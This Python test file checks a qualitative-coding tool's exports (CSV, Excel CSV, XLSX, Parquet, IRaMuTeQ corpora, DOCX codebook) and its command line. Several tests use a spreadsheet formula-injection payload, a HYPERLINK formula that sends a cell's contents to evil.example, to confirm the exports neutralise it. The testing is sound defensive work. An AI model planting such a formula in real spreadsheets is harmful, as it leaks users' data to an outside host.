"""Tabular exports (CSV, Excel CSV, XLSX, Parquet), IRaMuTeQ corpora and the codebook as DOCX, on the demo project."""

from __future__ import annotations

import csv
import io
import warnings

import docx
import openpyxl
import pandas as pd
import pytest
from typer.testing import CliRunner

from qualcoder import Project
from qualcoder.cli import app
from qualcoder.coding.overlap import covered_segments
from qualcoder.export import iramuteq, tabular
from qualcoder.export.codebook_docx import write_codebook_docx
from qualcoder.export.errors import ExportError, NoSegments, OutputExists, UnknownFilter, UnsupportedExportFormat
from qualcoder.ingest.iramuteq import split_iramuteq

runner = CliRunner()
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"cliquez")'


def _exported_codings(project: Project, statuses=("applied", "accepted")) -> pd.DataFrame:
    codings = project.codings_df()
    return codings[codings["status"].isin(statuses)].sort_values("coding_id").reset_index(drop=True)


def _texts(project: Project) -> dict[int, str]:
    return {doc_id: text for doc_id, (_, text) in project.repo.texts().items()}


# long and wide tables ------------------------------------------------------------------------------------
def test_long_table_has_one_row_per_coding_with_its_text_and_segment(demo_project):
    frame = tabular.coded_segments(demo_project)
    expected = _exported_codings(demo_project)
    assert frame["coding_id"].tolist() == expected["coding_id"].tolist()
    for column in ("doc", "doc_id", "start", "end", "code", "label_fr", "label_en", "coder", "source", "status"):
        assert frame[column].tolist() == expected[column].tolist(), column
    texts = _texts(demo_project)
    assert all(t == texts[d][s:e] for d, s, e, t in frame[["doc_id", "start", "end", "text"]].itertuples(index=False))
    assert set(frame["status"]) == {"applied"} and {"coder_a", "coder_b", "rules"} <= set(frame["coder"])
    assert list(frame.columns[:6]) == ["coding_id", "doc", "doc_id", "segment_id", "start", "end"]
    assert {"speaker", "profession", "role", "type", "language", "date", "network"} <= set(frame.columns)
    # the segment is the one that holds the coding's start, and the speaker is that segment's
    segments = demo_project.segments_df(with_text=False).set_index("segment_id")
    located = frame.dropna(subset=["segment_id"])
    assert len(located) > 0.95 * len(frame)
    for row in located.sample(200, random_state=0).itertuples():
        segment = segments.loc[row.segment_id]
        assert segment["doc_id"] == row.doc_id and segment["start"] <= row.start < segment["end"]
        assert (pd.isna(segment["speaker"]) and pd.isna(row.speaker)) or segment["speaker"] == row.speaker


def test_long_csv_reads_back_as_the_codings(demo_project):
    frame = tabular.coded_segments(demo_project)
    data = tabular.to_csv_bytes(frame)
    assert not data.startswith(b"\xef\xbb\xbf") and data.decode("utf-8")
    back = pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False)
    assert list(back.columns) == list(frame.columns)
    assert back["coding_id"].astype(int).tolist() == frame["coding_id"].tolist()
    safe = tabular.neutralise(frame)
    assert back["text"].tolist() == safe["text"].tolist()
    assert back["code"].tolist() == frame["code"].tolist()
    assert any("\n" in t for t in back["text"]) or len(back) == len(frame)


def test_suggestions_are_left_out_unless_asked(demo_project):
    plain = tabular.coded_segments(demo_project)
    both = tabular.coded_segments(demo_project, include_suggestions=True)
    suggested = both[both["status"] == "suggested"]
    assert "suggested" not in set(plain["status"]) and len(suggested) > 0
    assert len(both) == len(_exported_codings(demo_project, ("applied", "accepted", "suggested")))
    assert suggested["confidence"].between(0, 1).all() and both["confidence"].dtype == "float64"


def test_wide_table_marks_the_segments_the_codings_cover(demo_project):
    wide = tabular.coded_segments(demo_project, wide=True)
    segments = demo_project.segments_df(with_text=False)
    book = demo_project.codebook()
    codes = [c.id for c in book.codes]
    assert len(wide) == len(segments) and wide["segment_id"].tolist() == segments["segment_id"].tolist()
    assert [c for c in wide.columns if c in codes] == codes and wide.columns[-1] == "text"
    assert set(pd.unique(wide[codes].to_numpy().ravel())) <= {0, 1}
    expected = covered_segments(segments, _exported_codings(demo_project), tabular.WIDE_RULE)
    found = {int(s): {c for c in codes if row[c]} for s, row in wide.set_index("segment_id")[codes].iterrows()}
    assert {s: c for s, c in found.items() if c} == expected
    back = pd.read_csv(io.BytesIO(tabular.to_csv_bytes(wide)))
    assert back.shape == wide.shape and int(back[codes].to_numpy().sum()) == int(wide[codes].to_numpy().sum())


def test_filters_by_code_with_descendants_coder_source_and_attribute(demo_project):
    book = demo_project.codebook()
    family = tabular.descendants(book, "financement")
    assert len(family) > 1
    frame = tabular.coded_segments(demo_project, codes=["financement"])
    expected = _exported_codings(demo_project)
    assert len(frame) == int(expected["code"].isin(family).sum()) > 0
    assert set(frame["code"]) <= family and set(frame["code"]) - {"financement"}
    coder = tabular.coded_segments(demo_project, coders=["coder_a"], sources=["import"])
    assert set(coder["coder"]) == {"coder_a"} and len(coder) == int((expected["coder"] == "coder_a").sum())
    neuro = tabular.coded_segments(demo_project, where={"profession": ["Neurologue"], "type": ["minutes"]})
    assert len(neuro) > 0 and set(neuro["profession"]) == {"neurologue"} and set(neuro["type"]) == {"minutes"}
    wide = tabular.coded_segments(demo_project, wide=True, codes=["financement"], where={"language": ["en"]})
    assert set(wide["language"]) == {"en"} and [c for c in wide.columns if c in family]


def test_bad_filters_name_the_cause_and_the_valid_values(demo_project):
    with pytest.raises(UnknownFilter) as error:
        tabular.coded_segments(demo_project, where={"prof": ["neurologue"]})
    assert error.value.code == "Q902" and "'prof'" in str(error.value) and "profession" in str(error.value)
    with pytest.raises(UnknownFilter, match="coder_a, coder_b"):
        tabular.coded_segments(demo_project, coders=["coder_z"])
    with pytest.raises(UnknownFilter, match="--code"):
        tabular.coded_segments(demo_project, codes=["no.such.code"])
    with pytest.raises(UnknownFilter, match="profession=neurologue"):
        tabular.parse_where(["profession"])
    assert tabular.parse_where(["type=minutes", "type=interview"]) == {"type": ["minutes", "interview"]}


def test_wide_needs_segments(sqlite_project, sample_dir):
    sqlite_project.import_files([sample_dir])
    assert tabular.coded_segments(sqlite_project).empty
    with pytest.raises(NoSegments, match="qualcoder segment"):
        tabular.coded_segments(sqlite_project, wide=True)


# CSV for Excel and formula injection -----------------------------------------------------------------------
def test_excel_csv_has_bom_semicolons_decimal_commas_and_intact_rows(demo_project):
    everything = tabular.coded_segments(demo_project, include_suggestions=True)
    frame = pd.concat([everything.head(250), everything[everything["status"] == "suggested"].head(50)])
    frame.loc[frame.index[0], "memo"] = HYPERLINK
    frame.loc[frame.index[1], "memo"] = "ligne un;\nligne deux, « trois »\r\n-4"
    frame.loc[frame.index[2], "memo"] = "@SUM(1+1)"
    data = tabular.to_csv_bytes(frame, excel=True)
    assert data.startswith(b"\xef\xbb\xbf") and b"\r\n" in data
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert len(rows) == len(frame) + 1 and all(len(r) == len(frame.columns) for r in rows)
    header = rows[0]
    memo, text, confidence = header.index("memo"), header.index("text"), header.index("confidence")
    assert rows[1][memo] == "'" + HYPERLINK
    assert rows[2][memo] == "ligne un;\nligne deux, « trois »\r\n-4"
    assert rows[3][memo] == "'@SUM(1+1)"
    assert [r[text] for r in rows[1:]] == tabular.neutralise(frame)["text"].tolist()
    decimals = [r[confidence] for r in rows[1:] if r[confidence]]
    assert decimals and all("," in d and "." not in d for d in decimals if d not in ("0", "1"))


def test_neutralise_guards_text_cells_only(demo_project):
    frame = pd.DataFrame({"text": ["=1+1", "+33 1 23", "-x", "@a", "\tx", "\rx", "ok", " =no", None],
                          "n": [-1, 2, 3, 4, 5, 6, 7, 8, 9]})
    safe = tabular.neutralise(frame)
    assert safe["text"].tolist()[:8] == ["'=1+1", "'+33 1 23", "'-x", "'@a", "'\tx", "'\rx", "ok", " =no"]
    assert pd.isna(safe["text"].iloc[8]) and safe["n"].tolist() == frame["n"].tolist()
    assert tabular.neutralise(safe)["text"].tolist()[:7] == safe["text"].tolist()[:7]  # idempotent
    assert frame["text"].iloc[0] == "=1+1"  # the input is not changed


# XLSX and Parquet -------------------------------------------------------------------------------------------
def test_xlsx_has_codings_and_codebook_sheets(demo_project, tmp_path):
    frame = tabular.coded_segments(demo_project).copy()
    frame.loc[frame.index[0], "memo"] = HYPERLINK
    book = demo_project.codebook()
    path = tabular.write_xlsx(frame, tmp_path / "codings.xlsx", codebook=book)
    workbook = openpyxl.load_workbook(path)
    assert workbook.sheetnames == ["codings", "codebook"]
    codings, codebook = workbook["codings"], workbook["codebook"]
    assert codings.max_row == len(frame) + 1 and codings.max_column == len(frame.columns)
    assert codebook.max_row == len(book.codes) + 1
    assert [c.value for c in codings[1]] == list(frame.columns) and codings["A1"].font.bold
    assert codings.freeze_panes == "A2"
    memo = list(frame.columns).index("memo") + 1
    cell = codings.cell(row=2, column=memo)
    assert cell.value == HYPERLINK and cell.data_type == "s"  # text, never a formula
    header = [c.value for c in codebook[1]]
    assert header[:4] == ["id", "parent", "label_fr", "label_en"] and "colour" in header
    ids = [r[0] for r in codebook.iter_rows(min_row=2, values_only=True)]
    assert ids == [c.id for c in book.codes]


def test_xlsx_cuts_cells_over_excels_limit_with_a_marker_and_a_warning():
    frame = pd.DataFrame({"code": ["a", "b"], "text": ["x" * 40_000, "short"]})
    with pytest.warns(tabular.TruncatedCells, match="1 cell"):
        data = tabular.to_xlsx_bytes(frame)
    sheet = openpyxl.load_workbook(io.BytesIO(data))["codings"]
    assert len(sheet["B2"].value) == tabular.XLSX_CELL_LIMIT and sheet["B2"].value.endswith(tabular.TRUNCATED)
    assert sheet["B3"].value == "short"


def test_parquet_keeps_the_frame_and_its_types(demo_project, tmp_path):
    frame = tabular.coded_segments(demo_project, include_suggestions=True)
    path = tabular.write_parquet(frame, tmp_path / "codings.parquet")
    back = pd.read_parquet(path)
    pd.testing.assert_frame_equal(back, frame)
    assert back["coding_id"].dtype == "int64" and back["confidence"].dtype == "float64"
    assert str(back["segment_id"].dtype) == "Int64"


# writing safely ----------------------------------------------------------------------------------------------
def test_existing_files_are_kept_unless_forced_and_failures_leave_nothing(tmp_path):
    frame = pd.DataFrame({"a": [1, 2], "b": ["x", "y"]})
    path = tabular.write_csv(frame, tmp_path / "out.csv")
    with pytest.raises(OutputExists) as error:
        tabular.write_csv(frame.head(1), path)
    assert error.value.code == "Q903" and "--force" in str(error.value)
    assert path.read_bytes() == tabular.to_csv_bytes(frame)
    tabular.write_csv(frame.head(1), path, force=True)
    assert len(pd.read_csv(path)) == 1
    broken = pd.DataFrame({"a": [object(), 1]})
    with pytest.raises(Exception):  # noqa: B017 -- pyarrow's own error: what matters is what is left behind
        tabular.write_parquet(broken, tmp_path / "broken.parquet")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.csv"]
    with pytest.raises(ExportError, match="folder does not exist"):
        tabular.write_csv(frame, tmp_path / "missing" / "out.csv")


def test_the_format_follows_the_suffix_or_the_option(tmp_path):
    assert tabular.table_format("a.CSV") == "csv" and tabular.table_format("a.dat", "parquet") == "parquet"
    with pytest.raises(UnsupportedExportFormat, match=r"\.csv, \.xlsx or \.parquet"):
        tabular.table_format("a.json")
    with pytest.raises(UnsupportedExportFormat, match="--excel"):
        tabular.write_table(pd.DataFrame({"a": [1]}), tmp_path / "a.xlsx", excel=True)


# IRaMuTeQ ----------------------------------------------------------------------------------------------------
def test_iramuteq_corpus_by_document_round_trips_through_our_reader(demo_project, tmp_path):
    path = iramuteq.write_corpus(demo_project, tmp_path / "corpus.txt", by="document",
                                 attributes=["type", "date", "network", "doc"])
    text = path.read_text(encoding="utf-8")
    assert not text.startswith("\ufeff")
    texts = split_iramuteq(text, path)
    documents = demo_project.documents_df()
    assert len(texts) == len(documents)
    for raw, document in zip(texts, documents.itertuples()):
        assert raw.text == iramuteq.clean_text(document.text).strip("\n")
        expected = {"type": document.type, "date": document.date, "network": document.network, "doc": document.name}
        assert raw.attributes == {k: iramuteq.variable_value(v) for k, v in expected.items() if isinstance(v, str)}
    # and the whole file imports into a project as the same documents
    project = Project.create(tmp_path / "again")
    report = project.import_files([path])
    assert not report.failures and len(report.added) == len(documents)
    again = project.documents_df()
    assert again["text"].tolist() == [iramuteq.clean_text(t).strip("\n") for t in documents["text"]]
    assert again["type"].tolist() == documents["type"].tolist()
    assert again["network"].fillna("").tolist() == [iramuteq.variable_value(v) if isinstance(v, str) else ""
                                                      for v in documents["network"]]
    project.close()


def test_iramuteq_by_turn_carries_speaker_attributes(demo_project, tmp_path):
    path = iramuteq.write_corpus(demo_project, tmp_path / "turns.txt", by="turn",
                                 attributes=["type", "profession", "date"])
    texts = split_iramuteq(path.read_text(encoding="utf-8"), path)
    units = iramuteq.corpus_units(demo_project, "turn")
    assert len(texts) == int(units["text"].str.strip().astype(bool).sum()) > len(demo_project.documents_df())
    professions = {t.attributes.get("profession") for t in texts}
    assert {"neurologue", "médecin_généraliste"} <= professions
    assert all(set(t.attributes) <= {"type", "profession", "date"} for t in texts)
    segments = split_iramuteq(iramuteq.write_corpus(demo_project, tmp_path / "s.txt", by="segment").read_text(),
                              tmp_path / "s.txt")
    assert len(segments) == len(demo_project.segments_df(with_text=False))
    assert {"doc", "type", "language", "speaker", "profession", "role"} <= set().union(*(s.attributes for s in segments))


def test_iramuteq_names_values_and_text_follow_its_rules(tmp_path):
    line = iramuteq.star_line({"année": 2023, "minute_taker": "Dr J. *Roux* (CHU)", "empty": None, "x": "  "})
    assert line == "**** *annee_2023 *minutetaker_Dr_J_Roux_CHU"
    body = iramuteq.clean_text("**** pas une ligne étoilée\n*note\n  -*thème\nun * au milieu")
    assert body == " pas une ligne étoilée\nnote\n  -thème\nun * au milieu"
    path = tmp_path / "c.txt"
    path.write_text(f"{line}\n{body}\n", encoding="utf-8")
    [raw] = split_iramuteq(path.read_text(encoding="utf-8"), path)
    assert raw.attributes == {"annee": "2023", "minutetaker": "Dr_J_Roux_CHU"} and raw.text == body


def test_iramuteq_refuses_unknown_attributes_and_units(demo_project, tmp_path):
    with pytest.raises(UnknownFilter, match="profession, role") as error:
        iramuteq.write_corpus(demo_project, tmp_path / "c.txt", by="turn", attributes=["prof"])
    assert "'prof'" in str(error.value)
    with pytest.raises(ExportError, match="document, turn, segment"):
        iramuteq.write_corpus(demo_project, tmp_path / "c.txt", by="chapter")
    assert not (tmp_path / "c.txt").exists()


# codebook as DOCX --------------------------------------------------------------------------------------------
@pytest.mark.parametrize("language", ["fr", "en"])
def test_codebook_docx_holds_every_label_and_definition(demo_project, tmp_path, language):
    book = demo_project.codebook()
    path = write_codebook_docx(book, tmp_path / f"codebook-{language}.docx", language)
    document = docx.Document(str(path))
    text = "\n".join(p.text for p in document.paragraphs)
    for code in book.codes:
        assert code.label[language] in text and code.definition[language] in text
    headings = [p for p in document.paragraphs if p.style.name.startswith("Heading")]
    assert len(headings) == len(book.codes)
    assert {p.style.name for p in headings} >= {"Heading 1", "Heading 2"}
    with pytest.raises(OutputExists):
        write_codebook_docx(book, path, language)


# command line ------------------------------------------------------------------------------------------------
def test_cli_exports_segments_in_every_format(demo_project, tmp_path):
    folder = str(demo_project.folder)
    out = tmp_path / "neuro.csv"
    result = runner.invoke(app, ["export", "segments", str(out), "-p", folder, "--excel", "--code", "financement",
                                 "--where", "profession=neurologue", "--coder", "rules", "--source", "rules"])
    assert result.exit_code == 0, result.output
    frame = pd.read_csv(out, sep=";", encoding="utf-8-sig", dtype=str)
    assert f"Wrote {len(frame)} row(s)" in result.output and len(frame) > 0
    assert set(frame["profession"]) == {"neurologue"} and set(frame["coder"]) == {"rules"}
    result = runner.invoke(app, ["export", "segments", str(out), "-p", folder])
    assert result.exit_code == 2 and "[Q903]" in result.output
    assert runner.invoke(app, ["export", "segments", str(out), "-p", folder, "--force"]).exit_code == 0
    wide = tmp_path / "wide.xlsx"
    assert runner.invoke(app, ["export", "segments", str(wide), "-p", folder, "--wide"]).exit_code == 0
    assert openpyxl.load_workbook(wide).sheetnames == ["codings", "codebook"]
    data = tmp_path / "all.data"
    result = runner.invoke(app, ["export", "segments", str(data), "-p", folder, "--format", "parquet",
                                 "--include-suggestions"])
    assert result.exit_code == 0 and "suggested" in set(pd.read_parquet(data)["status"])
    result = runner.invoke(app, ["export", "segments", str(tmp_path / "x.csv"), "-p", folder, "--where", "prof=x"])
    assert result.exit_code == 2 and "[Q902]" in result.output and not (tmp_path / "x.csv").exists()


def test_cli_neutralises_a_memo_typed_by_a_coder(demo_copy, tmp_path):
    segment = int(demo_copy.segments_df(with_text=False)["segment_id"].iloc[3])
    demo_copy.add_coding("financement", "alice", segment=segment, memo=HYPERLINK)
    out = tmp_path / "alice.csv"
    result = runner.invoke(app, ["export", "segments", str(out), "-p", str(demo_copy.folder), "--coder", "alice",
                                 "--excel"])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline=""), delimiter=";"))
    assert len(rows) == 1 and rows[0]["memo"] == "'" + HYPERLINK and rows[0]["segment_id"] == str(segment)


def test_cli_exports_the_codebook_and_an_iramuteq_corpus(demo_project, tmp_path):
    folder = str(demo_project.folder)
    book = demo_project.codebook()
    for name in ("codebook.docx", "codebook.md"):
        result = runner.invoke(app, ["export", "codebook", str(tmp_path / name), "-p", folder, "--language", "en"])
        assert result.exit_code == 0, result.output
    assert book.codes[0].label["en"] in (tmp_path / "codebook.md").read_text(encoding="utf-8")
    result = runner.invoke(app, ["export", "codebook", str(tmp_path / "codebook.pdf"), "-p", folder])
    assert result.exit_code == 2 and "[Q904]" in result.output
    corpus = tmp_path / "corpus.txt"
    result = runner.invoke(app, ["export", "iramuteq", str(corpus), "-p", folder, "--by", "turn", "--attributes",
                                 "type,profession,date"])
    assert result.exit_code == 0, result.output
    assert corpus.read_text(encoding="utf-8").startswith("**** *type_minutes *date_2004-01-15\n")
    result = runner.invoke(app, ["export", "iramuteq", str(corpus), "-p", folder, "--force", "--by", "chapter"])
    assert result.exit_code == 2 and "[Q901]" in result.output


def test_no_warning_for_ordinary_xlsx(demo_project):
    with warnings.catch_warnings():
        warnings.simplefilter("error", tabular.TruncatedCells)
        assert tabular.to_xlsx_bytes(tabular.coded_segments(demo_project).head(20))[:2] == b"PK"
